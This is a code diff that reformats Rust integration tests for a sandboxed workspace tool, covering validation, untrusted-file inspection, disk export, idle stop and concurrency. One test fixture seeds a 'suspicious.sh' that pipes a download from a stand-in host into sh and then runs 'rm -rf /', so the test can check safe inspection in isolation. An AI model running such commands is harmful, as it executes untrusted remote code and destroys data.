@@ -15,11 +15,14 @@ use serde_json::Value;
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_cold_start_validation() {
     let sb = Sandbox::new(crate::PYRO);
-    let seed = sb.seed("cold", &[
-        ("README.md", "# demo repo\n", 0o644),
-        ("validate.sh", "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
-        ("serve.sh", "#!/bin/sh\necho service started\necho service=ready > service-state.txt\ntouch .app-ready\nsleep 1000\n", 0o755),
-    ]);
+    let seed = sb.seed(
+        "cold",
+        &[
+            ("README.md", "# demo repo\n", 0o644),
+            ("validate.sh", "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
+            ("serve.sh", "#!/bin/sh\necho service started\necho service=ready > service-state.txt\ntouch .app-ready\nsleep 1000\n", 0o755),
+        ],
+    );
     let id = sb.create(&seed, "cold-start-validation", &["suite=workspace-use-case-smoke", "use_case=cold-start-validation"]);
     let exec = sb.ws(&["exec", &id, "--", "sh validate.sh"]);
     assert_eq!(exec["exit_code"], 0);
@@ -81,7 +84,10 @@ fn story_parallel_workspaces() {
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_untrusted_inspection() {
     let sb = Sandbox::new(crate::PYRO);
-    let seed = sb.seed("untrusted", &[("suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf /\n", 0o755), ("README.md", "inspect me\n", 0o644)]);
+    let seed = sb.seed(
+        "untrusted",
+        &[("suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf /\n", 0o755), ("README.md", "inspect me\n", 0o644)],
+    );
     let id = sb.create(&seed, "untrusted-inspection", &[]);
     assert_eq!(sb.ws(&["status", &id])["network_policy"], "off");
     let listing = sb.ws(&["file", "list", &id, "/workspace", "--recursive"]);
@@ -97,11 +103,14 @@ fn story_untrusted_inspection() {
 #[ignore = "boots real guests; run by scripts/test.sh"]
 fn story_review_eval_and_offline_disk() {
     let sb = Sandbox::new(crate::PYRO);
-    let seed = sb.seed("review", &[
-        ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
-        ("artifact.txt", "PASS\n", 0o644),
-        ("review.sh", "#!/bin/sh\ngrep -qx PASS artifact.txt && echo review=pass > review-report.txt\n", 0o755),
-    ]);
+    let seed = sb.seed(
+        "review",
+        &[
+            ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
+            ("artifact.txt", "PASS\n", 0o644),
+            ("review.sh", "#!/bin/sh\ngrep -qx PASS artifact.txt && echo review=pass > review-report.txt\n", 0o755),
+        ],
+    );
     let id = sb.create(&seed, "review-eval", &[]);
     sb.ws(&["snapshot", "create", &id, "pre-review"]);
     assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
@@ -124,7 +133,8 @@ fn story_review_eval_and_offline_disk() {
     assert_eq!(sb.ws(&["disk", "read", &id, "review-report.txt"])["content"], "review=pass\n");
     let image = sb.host.path().join("disk.ext4");
     sb.ws(&["disk", "export", &id, "--output", image.to_str().unwrap()]);
-    let debugfs = Command::new("debugfs").args(["-R", "cat /workspace/artifact.txt"]).arg(&image).output().expect("debugfs (e2fsprogs) reads the exported ext4");
+    let debugfs =
+        Command::new("debugfs").args(["-R", "cat /workspace/artifact.txt"]).arg(&image).output().expect("debugfs (e2fsprogs) reads the exported ext4");
     assert_eq!(String::from_utf8_lossy(&debugfs.stdout), "PASS\n");
     assert!(sb.ws_err(&["disk", "export", &id, "--output", image.to_str().unwrap()]).contains("already exists"));
     assert_eq!(sb.ws(&["start", &id])["state"], "started");
@@ -177,7 +187,8 @@ fn modes_git_patches_and_crash_recovery() {
 fn idle_workspaces_stop_and_keep_their_data() {
     let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("idle", &[("keep.txt", "kept\n", 0o644)]);
-    let out = sb.raw_env(&["workspace", "create", "debian:12-base", "--seed-path", seed.to_str().unwrap(), "--id-only"], &[("PYRO_WORKSPACE_IDLE_STOP_SECONDS", "3")]);
+    let out = sb
+        .raw_env(&["workspace", "create", "debian:12-base", "--seed-path", seed.to_str().unwrap(), "--id-only"], &[("PYRO_WORKSPACE_IDLE_STOP_SECONDS", "3")]);
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
     let id = String::from_utf8(out.stdout).unwrap().trim().to_string();
     let status = wait_for(Duration::from_secs(60), || {
@@ -196,7 +207,9 @@ fn concurrent_cli_processes_lose_nothing() {
     let sb = Sandbox::new(crate::PYRO);
     let seed = sb.seed("concurrent", &[("x", "x\n", 0o644)]);
     let id = sb.create(&seed, "concurrent", &[]);
-    let spawn = |args: Vec<String>| Command::new(crate::PYRO).args(args).env("PYRO_STATE_DIR", sb.state.path()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
+    let spawn = |args: Vec<String>| {
+        Command::new(crate::PYRO).args(args).env("PYRO_STATE_DIR", sb.state.path()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
+    };
     let mut children = Vec::new();
     for i in 0..4 {
         children.push(spawn(vec!["workspace".into(), "exec".into(), id.clone(), "--".into(), format!("echo run-{i}")]));
